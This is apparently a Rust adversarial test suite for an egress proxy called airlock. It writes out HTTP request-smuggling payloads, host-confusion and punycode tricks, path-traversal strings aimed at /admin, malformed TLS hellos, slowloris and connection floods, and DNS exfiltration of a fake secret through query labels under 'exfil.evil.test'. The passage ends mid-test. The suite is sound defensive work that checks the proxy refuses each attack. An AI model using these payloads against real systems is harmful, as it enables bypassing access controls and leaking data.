//! The proxy against a client that is actively trying to get through it:
//! request smuggling, host confusion, path tricks, TLS and TCP abuse, DNS
//! exfiltration and credential leaks. Every case checks both halves of the
//! promise: the decision is right (nothing reaches a host or path the policy
//! denies, counted at real upstream servers) and the proxy survives with
//! bounded memory and keeps serving.

use std::convert::Infallible;
use std::sync::Arc;
use std::time::{Duration, Instant};

use airlock_test_support::client::{connect_tunnel, curl, intercepted, read_head, run};
use airlock_test_support::pki::{TestPki, tls_client};
use airlock_test_support::proxy::{AirlockProxy, ProxyOptions};
use airlock_test_support::server::{TestServer, serve_http};
use airlock_test_support::upstream::Upstream;
use bytes::Bytes;
use http_body_util::{BodyExt, Full, StreamBody};
use hyper::body::{Frame, Incoming};
use hyper::{Request, Response};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::{TcpStream, UdpSocket};

const AIRLOCK: &str = airlock_test_support::airlock_bin!();

const SECRET: &str = "sk-live-adversarial-0123456789";
/// Resident memory the proxy may use after any abuse case.
const RSS_LIMIT_KIB: u64 = 200 * 1024;

/// Allowed: `api.test` on the TLS upstream (`/echo`, `/bytes/*`), on the plain
/// upstream (`/echo`) and on the leaky upstream; a `[[deny]]` for `/admin`.
/// `evil.test` has its own upstream and no rule: it must never see a request.
struct Fx {
    _pki: TestPki,
    good: Upstream,
    plain: Upstream,
    evil: Upstream,
    leak: Leaky,
    proxy: AirlockProxy,
}

impl Fx {
    async fn new() -> Self {
        Self::with_dns(false).await
    }

    async fn with_dns(dns: bool) -> Self {
        let pki = TestPki::new();
        let good = Upstream::start(Some(pki.server_config(&["api.test"]))).await;
        let plain = Upstream::start(None).await;
        let evil = Upstream::start(Some(pki.server_config(&["evil.test"]))).await;
        let leak = Leaky::start(pki.server_config(&["api.test"])).await;
        let policy = format!(
            r#"
version = 1
default = "deny"

[[allow]]
host = "api.test"
port = {good}
methods = ["GET", "POST"]
paths = ["/echo", "/bytes/*"]

[[allow]]
host = "api.test"
port = {plain}
methods = ["GET", "POST"]
paths = ["/echo"]

[[allow]]
host = "api.test"
port = {leak}
paths = ["/redirect", "/gzip", "/gzip2", "/header", "/body"]

[[deny]]
host = "api.test"
paths = ["/admin", "/admin/**"]

[[credential]]
name = "token"
hosts = ["api.test"]
header = "Authorization"
value = "Bearer ${{env:TEST_TOKEN}}"
placeholder = "TEST_TOKEN"
"#,
            good = good.port(),
            plain = plain.port(),
            leak = leak.port,
        );
        let mut opts = ProxyOptions::new(&policy);
        opts.upstream_ca = Some(&pki.ca_pem);
        opts.resolve = vec!["api.test:127.0.0.1".into(), "evil.test:127.0.0.1".into()];
        opts.env = vec![("TEST_TOKEN", SECRET)];
        opts.dns = dns;
        let proxy = AirlockProxy::start(AIRLOCK, opts);
        Self {
            _pki: pki,
            good,
            plain,
            evil,
            leak,
            proxy,
        }
    }

    fn good_authority(&self) -> String {
        format!("api.test:{}", self.good.port())
    }

    /// Paths of every request the allowed TLS upstream received.
    fn good_paths(&self) -> Vec<String> {
        self.good
            .seen
            .lock()
            .unwrap()
            .iter()
            .map(|r| r.path.clone())
            .collect()
    }

    /// The proxy is alive, small, serves a normal request, and nothing reached evil.test.
    async fn survives(&self) {
        let rss = rss_kib(self.proxy.pid());
        assert!(rss < RSS_LIMIT_KIB, "proxy RSS {rss} KiB exceeds the bound");
        let url = format!("https://{}/echo", self.good_authority());
        let (code, _, out) = curl(&self.proxy, &[&url]).await;
        assert_eq!(code, 200, "the proxy stopped serving: {out:?}");
        assert_eq!(self.evil.hits(), 0, "a request reached the denied host");
    }
}

/// How many descriptors `pid` has open (proc(5), /proc/PID/fd).
fn open_fds(pid: u32) -> usize {
    std::fs::read_dir(format!("/proc/{pid}/fd")).map_or(0, |d| d.count())
}

/// The soft RLIMIT_NOFILE of `pid` (proc(5), /proc/PID/limits).
fn open_files_limit(pid: u32) -> u64 {
    std::fs::read_to_string(format!("/proc/{pid}/limits"))
        .unwrap()
        .lines()
        .find(|l| l.starts_with("Max open files"))
        .and_then(|l| l.split_whitespace().nth(3))
        .and_then(|v| v.parse().ok())
        .unwrap_or(0)
}

fn rss_kib(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status"))
        .unwrap_or_else(|e| panic!("proxy {pid} is gone: {e}"));
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .unwrap_or(0)
}

/// Write raw bytes and read everything until the peer closes (or 5 s pass).
async fn exchange<S: AsyncRead + AsyncWrite + Unpin>(io: &mut S, bytes: &[u8]) -> String {
    io.write_all(bytes).await.unwrap();
    let mut out = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(5), io.read_to_end(&mut out)).await;
    String::from_utf8_lossy(&out).into_owned()
}

/// Status codes of every response in a raw HTTP/1.1 byte stream.
fn statuses(raw: &str) -> Vec<u16> {
    let mut codes = Vec::new();
    // Bodies here never contain "HTTP/1.1 " followed by a code and a space.
    for (i, _) in raw.match_indices("HTTP/1.1 ") {
        if raw.get(i + 12..i + 13) == Some(" ")
            && let Some(code) = raw.get(i + 9..i + 12).and_then(|c| c.parse().ok())
        {
            codes.push(code);
        }
    }
    codes
}

// ---------------------------------------------------------------------------
// Request smuggling and desync
// ---------------------------------------------------------------------------

/// Each framing trick against the intercepted HTTP/1.1 server: whatever the
/// proxy makes of the bytes, the smuggled second request never reaches any
/// upstream, and the allowed upstream sees at most the one honest request.
#[tokio::test]
async fn smuggling_never_delivers_a_second_request() {
    let fx = Fx::new().await;
    let host = fx.good_authority();
    let evil = format!("evil.test:{}", fx.evil.port());
    let smuggled = format!("GET /smuggled HTTP/1.1\r\nHost: {host}\r\n\r\n");
    let cases: Vec<(&str, String)> = vec![
        (
            "CL.TE",
            format!(
                "POST /echo HTTP/1.1\r\nHost: {host}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{smuggled}"
            ),
        ),
        (
            "TE.CL",
            format!(
                "POST /echo HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\nContent-Length: 200\r\n\r\n0\r\n\r\n{smuggled}"
            ),
        ),
        (
            "TE obfuscated",
            format!(
                "POST /echo HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: xchunked\r\nContent-Length: 3\r\n\r\nabc{smuggled}"
            ),
        ),
        (
            "TE list",
            format!(
                "POST /echo HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n{smuggled}"
            ),
        ),
        (
            "duplicate CL",
            format!(
                "POST /echo HTTP/1.1\r\nHost: {host}\r\nContent-Length: 0\r\nContent-Length: {}\r\n\r\n{smuggled}",
                smuggled.len()
            ),
        ),
        (
            "CL list",
            format!(
                "POST /echo HTTP/1.1\r\nHost: {host}\r\nContent-Length: 0, {}\r\n\r\n{smuggled}",
                smuggled.len()
            ),
        ),
        (
            "obs-fold",
            format!(
                "POST /echo HTTP/1.1\r\nHost: {host}\r\nContent-Length: 0\r\nX-A: a\r\n Transfer-Encoding: chunked\r\n\r\n{smuggled}"
            ),
        ),
        (
            "bare LF",
            format!(
                "POST /echo HTTP/1.1\nHost: {host}\nContent-Length: 0\nX-Junk: a\rTransfer-Encoding: chunked\n\n{smuggled}"
            ),
        ),
        (
            "chunk size overflow",
            format!(
                "POST /echo HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffffff1\r\nx\r\n0\r\n\r\n{smuggled}"
            ),
        ),
        (
            "pipelined other host",
            format!(
                "GET /echo HTTP/1.1\r\nHost: {host}\r\n\r\nGET /echo HTTP/1.1\r\nHost: {evil}\r\nConnection: close\r\n\r\n"
            ),
        ),
    ];
    for (name, bytes) in &cases {
        let before = fx.good.hits();
        let mut tls = intercepted(&fx.proxy, &host, "api.test", &[b"http/1.1"]).await;
        let answer = exchange(&mut tls, bytes.as_bytes()).await;
        // A request whose body broke may still land upstream a moment later.
        tokio::time::sleep(Duration::from_millis(300)).await;
        let codes = statuses(&answer);
        let paths = fx.good_paths();
        eprintln!("{name}: {codes:?}, upstream now {paths:?}");
        assert!(
            !paths.iter().any(|p| p == "/smuggled"),
            "{name}: the smuggled request reached the upstream: {paths:?}"
        );
        assert!(
            fx.good.hits() - before <= 1,
            "{name}: more than one request forwarded: {paths:?}"
        );
        assert_eq!(fx.evil.hits(), 0, "{name}: reached the denied host");
        // The smuggled request may be answered, but only by a refusal or by
        // an error: never by the upstream.
        assert!(
            codes.iter().skip(1).all(|c| *c >= 400),
            "{name}: a second response came back allowed: {codes:?} {answer}"
        );
        if *name == "pipelined other host" {
            assert_eq!(codes, vec![200, 403], "{answer}");
            assert!(answer.contains("domain fronting"), "{answer}");
        }
    }
    // The same tricks on the explicit proxy's plain-HTTP front door, where
    // every absolute-form request names its own host.
    let plain = format!("api.test:{}", fx.plain.port());
    let pipelined = format!(
        "GET http://{plain}/echo HTTP/1.1\r\nHost: {plain}\r\n\r\nGET http://{evil}/echo HTTP/1.1\r\nHost: {evil}\r\n\r\nPOST http://{plain}/echo HTTP/1.1\r\nHost: {plain}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://{evil}/x HTTP/1.1\r\nHost: {evil}\r\nConnection: close\r\n\r\n"
    );
    let mut tcp = TcpStream::connect(fx.proxy.addr).await.unwrap();
    let answer = exchange(&mut tcp, pipelined.as_bytes()).await;
    let codes = statuses(&answer);
    // 200, 403 for evil.test, then the CL+TE request is answered and the
    // connection closed, so the smuggled fourth request is never read.
    assert_eq!(codes.first(), Some(&200), "{answer}");
    assert_eq!(codes.get(1), Some(&403), "{answer}");
    assert!(codes.len() <= 3, "{answer}");
    assert!(
        fx.plain.hits() <= 2,
        "plain upstream saw {} requests",
        fx.plain.hits()
    );
    fx.survives().await;
}

// ---------------------------------------------------------------------------
// Host confusion
// ---------------------------------------------------------------------------

#[tokio::test]
async fn host_confusion_is_refused_and_canonical_spellings_work() {
    let fx = Fx::new().await;
    let host = fx.good_authority();
    let port = fx.good.port();
    let evil = format!("evil.test:{}", fx.evil.port());
    let one = |target: &str, host_header: &str| {
        format!("GET {target} HTTP/1.1\r\nHost: {host_header}\r\nConnection: close\r\n\r\n")
    };
    // (request, expected status)
    let cases = vec![
        (one("/echo", &evil), 403),
        (one("/echo", &format!("api.test:{}", fx.evil.port())), 403),
        (one("/echo", "api.test"), 403), // no port means 443, not the tunnel's port
        (one(&format!("https://{evil}/echo"), &host), 403),
        (one(&format!("https://{evil}/echo"), &evil), 403),
        (one(&format!("http://{host}/echo"), &host), 403), // scheme differs from the connection
        (one("/echo", &format!("user@{host}")), 400),
        (
            format!("CONNECT {evil} HTTP/1.1\r\nHost: {evil}\r\nConnection: close\r\n\r\n"),
            403,
        ),
        (one("/echo", &format!("API.TEST:{port}")), 200),
        (one("/echo", &format!("api.test.:{port}")), 200),
        (one(&format!("https://API.test:{port}/echo"), &host), 200),
        (one("/echo", &format!("xn--pi-7kc.test:{port}")), 403), // punycode of Cyrillic "аpi.test"
        (one("/echo", &format!("127.0.0.1:{port}")), 403),
    ];
    for (request, expected) in &cases {
        let mut tls = intercepted(&fx.proxy, &host, "api.test", &[b"http/1.1"]).await;
        let answer = exchange(&mut tls, request.as_bytes()).await;
        let code = statuses(&answer).first().copied().unwrap_or(0);
        if *expected == 200 {
            assert_eq!(code, 200, "{request:?}: {answer}");
        } else {
            // Refusals are 403 (or 400 for malformed authorities); never forwarded.
            assert!(
                code == 403 || code == 400,
                "{request:?} answered {code}, wanted a refusal: {answer}"
            );
        }
    }
    assert_eq!(
        fx.good.hits(),
        3,
        "only the canonical spellings were forwarded"
    );

    // TLS-level confusion: SNI that is an IP literal, another host, or IDN.
    for sni in ["127.0.0.1", "evil.test", "xn--pi-7kc.test"] {
        let out = run(
            "openssl",
            &[
                "s_client",
                "-proxy",
                &fx.proxy.addr.to_string(),
                "-connect",
                &host,
                "-servername",
                sni,
                "-CAfile",
                fx.proxy.ca_pem.to_str().unwrap(),
            ],
            &[],
        )
        .await;
        assert!(
            !out.stdout.contains("Server certificate"),
            "SNI {sni} on a tunnel to {host} was served: {}",
            out.stdout
        );
    }
    // CONNECT authorities that are not the canonical form.
    for authority in [
        format!("API.TEST.:{port}"),
        format!("[::ffff:127.0.0.1]:{port}"),
        format!("127.1:{port}"),
        format!("evil.test:{port}"),
    ] {
        let mut tcp = TcpStream::connect(fx.proxy.addr).await.unwrap();
        let connect = format!("CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n");
        tcp.write_all(connect.as_bytes()).await.unwrap();
        let head = read_head(&mut tcp).await;
        if authority.starts_with("API.TEST.") {
            assert!(head.starts_with("HTTP/1.1 200"), "{authority}: {head}");
        } else if head.starts_with("HTTP/1.1 200") {
            // Accepted at the TCP level; every request on it must still be refused.
            let name = rustls::pki_types::ServerName::try_from("api.test").unwrap();
            if let Ok(mut tls) = tls_client(&fx.proxy.ca_pem, &[b"http/1.1"])
                .connect(name, tcp)
                .await
            {
                let answer = exchange(&mut tls, one("/echo", &authority).as_bytes()).await;
                assert!(!answer.starts_with("HTTP/1.1 200"), "{authority}: {answer}");
            }
        }
    }
    assert_eq!(fx.good.hits(), 3);
    fx.survives().await;
}

// ---------------------------------------------------------------------------
// Path tricks
// ---------------------------------------------------------------------------

#[tokio::test]
async fn path_tricks_never_reach_a_denied_or_unlisted_path() {
    let fx = Fx::new().await;
    let host = fx.good_authority();
    let tricks = [
        "/echo/../admin",
        "/echo/%2e%2e/admin",
        "/echo/%2E%2E/admin",
        "/echo/.%2e/admin",
        "//admin",
        "/%2fadmin",
        "/echo%2f..%2fadmin",
        "/echo\\..\\admin",
        "/echo%5c..%5cadmin",
        "/admin;x=1",
        "/ADMIN",
        "/Admin/",
        "/admin/",
        "/%61dmin",
        "/echo/./",
        "/echo%00",
        "/echo%252e%252e/admin",
        "/echo/..;/admin",
        "/Echo",
        "/echo/",
        "/bytes/1/../../admin",
        "/bytes/%2e%2e",
        "*",
    ];
    for path in tricks {
        let mut tls = intercepted(&fx.proxy, &host, "api.test", &[b"http/1.1"]).await;
        let request = format!("GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
        let answer = exchange(&mut tls, request.as_bytes()).await;
        let code = statuses(&answer).first().copied().unwrap_or(0);
        assert!(
            code == 403 || code == 400,
            "{path:?} answered {code}: {answer}"
        );
    }
    assert_eq!(
        fx.good.hits(),
        0,
        "a path trick was forwarded: {:?}",
        fx.good_paths()
    );
    // The same through HTTP/2 (curl, --path-as-is keeps the bytes as written).
    for path in [
        "/echo/../admin",
        "/echo/%2e%2e/admin",
        "//admin",
        "/admin;x",
    ] {
        let url = format!("https://{host}{path}");
        let (code, _, out) = curl(&fx.proxy, &["--http2", "--path-as-is", &url]).await;
        assert_eq!(code, 403, "{path}: {out:?}");
    }
    assert_eq!(fx.good.hits(), 0);
    fx.survives().await;
}

// ---------------------------------------------------------------------------
// TLS and TCP abuse
// ---------------------------------------------------------------------------

#[tokio::test]
async fn hostile_client_hellos_are_closed_without_growth() {
    let fx = Fx::new().await;
    let host = fx.good_authority();
    let before = rss_kib(fx.proxy.pid());
    for round in 0..2 {
        let mut hellos: Vec<Vec<u8>> = vec![
            b"GARBAGE\x00\x01\x02\r\n\r\n".to_vec(),
            // A record header claiming a 16 KiB ClientHello, then closing.
            b"\x16\x03\x01\x40\x00\x01\x00\x3f\xfc".to_vec(),
            // A handshake message claiming 16 MiB.
            b"\x16\x03\x01\x00\x04\x01\xff\xff\xff".to_vec(),
            // Empty records.
            b"\x16\x03\x01\x00\x00".to_vec(),
        ];
        // An oversized ClientHello spread over many full records (> 64 KiB).
        let mut big = Vec::new();
        let body_len: u32 = 60 * 1024;
        let mut message = vec![
            1u8,
            (body_len >> 16) as u8,
            (body_len >> 8) as u8,
            body_len as u8,
        ];
        message.extend(std::iter::repeat_n(0x41u8, 200 * 1024));
        for chunk in message.chunks(16 * 1024) {
            big.extend_from_slice(&[0x16, 0x03, 0x01]);
            big.extend_from_slice(&(chunk.len() as u16).to_be_bytes());
            big.extend_from_slice(chunk);
        }
        hellos.push(big);
        // All at once: the stalled ones wait out the 10 s handshake timeout together.
        let mut tasks = Vec::new();
        for hello in hellos {
            let mut tcp = connect_tunnel(&fx.proxy, &host).await;
            tasks.push(tokio::spawn(async move {
                let _ = tcp.write_all(&hello).await;
                let mut sink = Vec::new();
                tokio::time::timeout(Duration::from_secs(15), tcp.read_to_end(&mut sink))
                    .await
                    .is_ok()
            }));
        }
        for (i, t) in tasks.into_iter().enumerate() {
            // Closed or reset in time: the proxy does not wait forever on a bad hello.
            assert!(t.await.unwrap(), "round {round}: hello {i} left open");
        }
    }
    let after = rss_kib(fx.proxy.pid());
    assert!(
        after < before + 64 * 1024,
        "RSS grew from {before} to {after} KiB"
    );
    assert_eq!(fx.good.hits(), 0);
    fx.survives().await;
}

/// Slow clients (headers and bodies dripped a byte at a time) hold a
/// connection each, but never block anyone else or grow memory.
#[tokio::test]
async fn slowloris_does_not_block_other_clients() {
    let fx = Fx::new().await;
    let plain = format!("api.test:{}", fx.plain.port());
    let host = fx.good_authority();
    let stop = Arc::new(std::sync::atomic::AtomicBool::new(false));
    let mut drips = Vec::new();
    for i in 0..64 {
        let addr = fx.proxy.addr;
        let plain = plain.clone();
        let stop = stop.clone();
        drips.push(tokio::spawn(async move {
            let Ok(mut tcp) = TcpStream::connect(addr).await else {
                return;
            };
            let text = if i % 2 == 0 {
                // Slow headers.
                format!("GET http://{plain}/echo HTTP/1.1\r\nHost: {plain}\r\nX-Slow: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa")
            } else {
                // Slow body.
                format!("POST http://{plain}/echo HTTP/1.1\r\nHost: {plain}\r\nContent-Length: 100000\r\n\r\naaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa")
            };
            for b in text.bytes() {
                if stop.load(std::sync::atomic::Ordering::Relaxed) {
                    return;
                }
                if tcp.write_all(&[b]).await.is_err() {
                    return;
                }
                tokio::time::sleep(Duration::from_millis(100)).await;
            }
        }));
    }
    tokio::time::sleep(Duration::from_millis(500)).await;
    for _ in 0..10 {
        let started = Instant::now();
        let (code, _, out) = curl(&fx.proxy, &[&format!("https://{host}/echo")]).await;
        assert_eq!(code, 200, "{out:?}");
        assert!(
            started.elapsed() < Duration::from_secs(3),
            "a normal request took {:?} while slow clients were connected",
            started.elapsed()
        );
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    for d in drips {
        let _ = d.await;
    }
    fx.survives().await;
}

/// A client that stops mid-header is disconnected by the header timeout
/// (30 s, proxy/src/engine.rs) instead of holding its connection forever.
#[tokio::test]
async fn a_stalled_header_is_closed_by_the_timeout() {
    let fx = Fx::new().await;
    let host = fx.good_authority();
    let mut tls = intercepted(&fx.proxy, &host, "api.test", &[b"http/1.1"]).await;
    tls.write_all(format!("GET /echo HTTP/1.1\r\nHost: {host}\r\nX-Stall: ").as_bytes())
        .await
        .unwrap();
    let started = Instant::now();
    let mut out = Vec::new();
    let closed = tokio::time::timeout(Duration::from_secs(45), tls.read_to_end(&mut out)).await;
    assert!(closed.is_ok(), "a stalled header was kept open for 45 s");
    assert!(
        started.elapsed() >= Duration::from_secs(20),
        "closed too early"
    );
    assert_eq!(fx.good.hits(), 0);
    fx.survives().await;
}

/// A client that starts a request body and stops sending is cut off by the
/// body idle timeout (30 s, proxy/src/engine.rs): the upstream request is
/// abandoned and the client told why, instead of both being held forever.
#[tokio::test]
async fn a_stalled_body_is_abandoned_by_the_timeout() {
    let fx = Fx::new().await;
    let host = fx.good_authority();
    let mut tls = intercepted(&fx.proxy, &host, "api.test", &[b"http/1.1"]).await;
    tls.write_all(
        format!("POST /echo HTTP/1.1\r\nHost: {host}\r\nContent-Length: 100000\r\n\r\nthe start")
            .as_bytes(),
    )
    .await
    .unwrap();
    let started = Instant::now();
    let mut out = Vec::new();
    let closed = tokio::time::timeout(Duration::from_secs(45), tls.read_to_end(&mut out)).await;
    assert!(closed.is_ok(), "a stalled body was kept open for 45 s");
    assert!(
        started.elapsed() >= Duration::from_secs(20),
        "closed too early"
    );
    let answer = String::from_utf8_lossy(&out);
    assert!(answer.starts_with("HTTP/1.1 502"), "{answer}");
    assert!(answer.contains("no request body data for 30 s"), "{answer}");
    fx.survives().await;
}

/// A request followed by a half-close (FIN) still gets its answer; a
/// half-closed idle connection is released.
#[tokio::test]
async fn half_closed_connections_are_answered_and_released() {
    let fx = Fx::new().await;
    let plain = format!("api.test:{}", fx.plain.port());
    let mut tcp = TcpStream::connect(fx.proxy.addr).await.unwrap();
    tcp.write_all(format!("GET http://{plain}/echo HTTP/1.1\r\nHost: {plain}\r\n\r\n").as_bytes())
        .await
        .unwrap();
    tcp.shutdown().await.unwrap();
    let mut out = Vec::new();
    tokio::time::timeout(Duration::from_secs(10), tcp.read_to_end(&mut out))
        .await
        .expect("the proxy closes after answering a half-closed client")
        .unwrap();
    let answer = String::from_utf8_lossy(&out);
    assert_eq!(statuses(&answer), vec![200], "{answer}");
    // Half-closed inside a CONNECT tunnel, before any TLS byte.
    let mut tunnel = connect_tunnel(&fx.proxy, &fx.good_authority()).await;
    tunnel.shutdown().await.unwrap();
    let mut out = Vec::new();
    tokio::time::timeout(Duration::from_secs(12), tunnel.read_to_end(&mut out))
        .await
        .expect("a half-closed tunnel is released")
        .ok();
    fx.survives().await;
}

/// 10,000 idle connections: the proxy keeps serving and its memory stays
/// bounded; when it runs out of descriptors it slows down rather than dies.
#[tokio::test]
async fn ten_thousand_idle_connections() {
    let fx = Fx::new().await;
    let pid = fx.proxy.pid();
    // Both processes need room for the idle connections; without
    // CAP_SYS_RESOURCE neither can raise its hard limit, so check it.
    for p in [std::process::id(), pid] {
        let limit = open_files_limit(p);
        assert!(
            limit >= 10_500,
            "process {p} may open only {limit} files; run with ulimit -n 20000"
        );
    }
    let before = rss_kib(pid);
    let fds_before = open_fds(pid);
    let started = Instant::now();
    let mut idle = Vec::with_capacity(10_000);
    // In batches that fit the listen backlog (128, see listen(2)), letting
    // the proxy accept each batch first: an overflowing backlog drops SYNs,
    // and every dropped SYN costs the client a one-second retransmit.
    for _ in 0..100 {
        for _ in 0..100 {
            idle.push(TcpStream::connect(fx.proxy.addr).await.unwrap());
        }
        let deadline = Instant::now() + Duration::from_secs(5);
        while open_fds(pid) + 64 < fds_before + idle.len() && Instant::now() < deadline {
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
    }
    // Let the proxy accept them all.
    tokio::time::sleep(Duration::from_secs(1)).await;
    let held = open_fds(pid);
    assert!(
        held >= fds_before + 9_900,
        "the proxy holds {held} descriptors, not the 10,000 connections"
    );
    let during = rss_kib(pid);
    eprintln!("10,000 connections open after {:?}", started.elapsed());
    fx.survives().await;
    eprintln!("served alongside them after {:?}", started.elapsed());
    drop(idle);
    // Wait until the proxy has seen every close, so the descriptor test
    // below starts from an empty accept queue.
    let deadline = Instant::now() + Duration::from_secs(60);
    while open_fds(pid) > fds_before + 64 && Instant::now() < deadline {
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    eprintln!(
        "closed down to {} descriptors after {:?}",
        open_fds(pid),
        started.elapsed()
    );
    eprintln!("RSS with 10,000 idle connections: {before} -> {during} KiB");
    assert!(
        during < RSS_LIMIT_KIB,
        "RSS {during} KiB with idle connections"
    );

    // Descriptor exhaustion: with a limit of 256 the accept loop backs off
    // on EMFILE; once connections close the proxy serves again.
    let ok = std::process::Command::new("prlimit")
        .args(["--pid", &pid.to_string(), "--nofile=256:256"])
        .status()
        .unwrap()
        .success();
    assert!(ok);
    // 300 is past the 256 descriptors but within what the listen backlog
    // (128, see listen(2)) can queue on top, so no connect waits on SYN retries.
    let mut hogs = Vec::new();
    for _ in 0..300 {
        let connect = TcpStream::connect(fx.proxy.addr);
        if let Ok(Ok(s)) = tokio::time::timeout(Duration::from_secs(2), connect).await {
            hogs.push(s);
        }
    }
    eprintln!("descriptor hogs connected after {:?}", started.elapsed());
    tokio::time::sleep(Duration::from_millis(500)).await;
    assert!(
        std::fs::metadata(format!("/proc/{pid}")).is_ok(),
        "the proxy died when it ran out of file descriptors"
    );
    let stderr = fx.proxy.stderr.lock().unwrap().join("\n");
    assert!(
        stderr.contains("accept failed"),
        "the proxy never ran out of descriptors (nothing to prove)"
    );
    drop(hogs);
    tokio::time::sleep(Duration::from_secs(1)).await;
    fx.survives().await;
    eprintln!("served again after {:?}", started.elapsed());
}

// ---------------------------------------------------------------------------
// DNS
// ---------------------------------------------------------------------------

fn dns_query(id: u16, name: &str, qtype: u16) -> Vec<u8> {
    let mut p = Vec::new();
    p.extend_from_slice(&id.to_be_bytes());
    p.extend_from_slice(&[0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]);
    for label in name.split('.').filter(|l| !l.is_empty()) {
        p.push(label.len() as u8);
        p.extend_from_slice(label.as_bytes());
    }
    p.push(0);
    p.extend_from_slice(&qtype.to_be_bytes());
    p.extend_from_slice(&1u16.to_be_bytes());
    p
}

/// The reply's one answer is an address from the synthetic range 198.18.0.0/15.
fn assert_synthetic(reply: &[u8]) {
    let ip = &reply[reply.len() - 4..];
    assert!(ip[0] == 198 && (ip[1] == 18 || ip[1] == 19), "{ip:?}");
}

/// (rcode, answer count) of a reply.
fn dns_result(reply: &[u8]) -> (u8, u16) {
    (reply[3] & 0x0f, u16::from_be_bytes([reply[6], reply[7]]))
}

async fn udp_ask(socket: &UdpSocket, packet: &[u8]) -> Option<Vec<u8>> {
    udp_ask_within(socket, packet, Duration::from_secs(10)).await
}

async fn udp_ask_within(socket: &UdpSocket, packet: &[u8], wait: Duration) -> Option<Vec<u8>> {
    socket.send(packet).await.ok()?;
    let deadline = tokio::time::Instant::now() + wait;
    loop {
        let mut buf = vec![0u8; 65535];
        let n = tokio::time::timeout_at(deadline, socket.recv(&mut buf))
            .await
            .ok()?
            .ok()?;
        buf.truncate(n);
        // Skip late replies to earlier packets.
        if packet.len() < 2 || buf.get(..2) == packet.get(..2) {
            return Some(buf);
        }
    }
}

#[tokio::test]
async fn dns_exfiltration_and_malformed_packets() {
    let fx = Fx::with_dns(true).await;
    let dns = fx.proxy.dns.unwrap();
    let socket = UdpSocket::bind("127.0.0.1:0").await.unwrap();
    socket.connect(dns).await.unwrap();
    const NXDOMAIN: u8 = 3;

    // Exfiltration through query names: data in labels under any domain, in
    // every query type, is answered locally and forwarded nowhere. An A
    // query gets a synthetic address (so a connection to it gets a 403 that
    // explains), every other type no records: nothing carries data back.
    let payload = hex(SECRET.as_bytes());
    for (i, qtype) in [1u16, 16, 28, 255, 5, 15].into_iter().enumerate() {
        let name = format!("{payload}.{i}.exfil.evil.test");
        let reply = udp_ask(&socket, &dns_query(0x1000 + i as u16, &name, qtype))
            .await
            .expect("an answer");
        let expect = if qtype == 1 { (0, 1) } else { (0, 0) };
        assert_eq!(dns_result(&reply), expect, "qtype {qtype}");
        if qtype == 1 {
            assert_synthetic(&reply);
        }
    }
    // A long name made of 63-byte labels (the wire maximum).
    let long: Vec<String> = (0..3).map(|_| "a".repeat(63)).collect();
    let reply = udp_ask(
        &socket,
        &dns_query(7, &format!("{}.evil.test", long.join(".")), 1),
    )
    .await
    .unwrap();
    assert_eq!(dns_result(&reply), (0, 1));
    assert_synthetic(&reply);
    // Labels under an allowed name are other names: answered, never forwarded.
    let reply = udp_ask(&socket, &dns_query(8, &format!("{payload}.api.test"), 1))
        .await
        .unwrap();
    assert_eq!(dns_result(&reply), (0, 1));
    assert_synthetic(&reply);
    // A name that is not a host name: NXDOMAIN.
    let reply = udp_ask(&socket, &dns_query(6, "bad!name.evil.test", 1))
        .await
        .unwrap();
    assert_eq!(dns_result(&reply), (NXDOMAIN, 0));
    // TXT and ANY for an allowed name: no records (nothing to carry data back).
    for qtype in [16u16, 255] {
        let reply = udp_ask(&socket, &dns_query(9, "api.test", qtype))
            .await
            .unwrap();
        assert_eq!(dns_result(&reply), (0, 0), "qtype {qtype}");
    }
    // A for the allowed name: one synthetic address.
    let reply = udp_ask(&socket, &dns_query(10, "api.test", 1))
        .await
        .unwrap();
    assert_eq!(dns_result(&reply), (0, 1));

    // Malformed and oversized packets: an error reply or silence, never a crash.
    let mut bad: Vec<Vec<u8>> = vec![
        vec![],
        vec![0x12],
        vec![0x12, 0x34],
        vec![0xff; 12],
        vec![0u8; 65000],
        // A compression pointer that points at itself.
        [
            &[0u8, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0][..],
            &[0xc0, 12, 0, 1, 0, 1][..],
        ]
        .concat(),
        // A label longer than the packet.
        [&[0u8, 2, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0][..], &[63, b'a'][..]].concat(),
        // Two questions.
        {
            let mut q = dns_query(11, "api.test", 1);
            q[5] = 2;
            q.extend_from_slice(&dns_query(11, "evil.test", 1)[12..]);
            q
        },
        // A response instead of a query.
        {
            let mut q = dns_query(12, "api.test", 1);
            q[2] |= 0x80;
            q
        },
    ];
    for _ in 0..200 {
        bad.push((0..64).map(|i: u8| i.wrapping_mul(37)).collect());
    }
    for packet in &bad {
        if let Some(reply) = udp_ask_within(&socket, packet, Duration::from_millis(500)).await {
            assert!(reply.len() >= 4);
            assert_eq!(
                u16::from_be_bytes([reply[6], reply[7]]),
                0,
                "records for {packet:?}"
            );
        }
    }

    // DNS over TCP: several queries on one connection, then a length prefix
    // that promises more than is sent (the idle timeout releases it).
    let mut tcp = TcpStream::connect(dns).await.unwrap();
    for (id, name, expect) in [(20u16, "api.test", 0u8), (21, "bad!name.test", NXDOMAIN)] {
